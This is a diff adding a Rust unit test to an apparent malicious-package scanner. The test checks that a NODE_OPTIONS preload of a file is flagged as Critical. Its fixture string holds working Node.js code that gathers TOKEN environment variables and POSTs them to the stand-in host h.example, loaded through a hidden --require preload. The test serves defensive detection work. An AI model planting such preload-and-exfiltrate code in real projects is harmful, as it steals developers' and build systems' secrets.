@@ -86,6 +86,21 @@ mod tests {
         assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical));
     }
 
+    const PRE: &str = "const https = require('https'); const keys = Object.keys(process.env).filter((k) => /TOKEN/.test(k)); const env = {}; for (const k of keys) env[k] = process.env[k]; https.request({ host: 'h.example', method: 'POST' }).end(JSON.stringify({ env }));";
+
+    #[test]
+    fn a_file_put_into_node_options_as_a_preload_is_loaded_code() {
+        let set = format!(
+            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}}\n=== index.js\nconst shim = require('path').join(__dirname, 'pre.cjs'); process.env.NODE_OPTIONS = `--require ${{shim}}`;\n=== pre.cjs\n{PRE}"
+        );
+        let hits = run(&super::RULE, "index.js", &set);
+        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical));
+        // Named in entry code without a preload option: a file like any other.
+        let named = set.replace("--require ", "");
+        let hits = run(&super::RULE, "index.js", &named);
+        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::High));
+    }
+
     #[test]
     fn credential_flow_in_a_big_bundle_is_only_medium() {
         let filler = "function f(a) { return a + 1; }\n".repeat(7000);
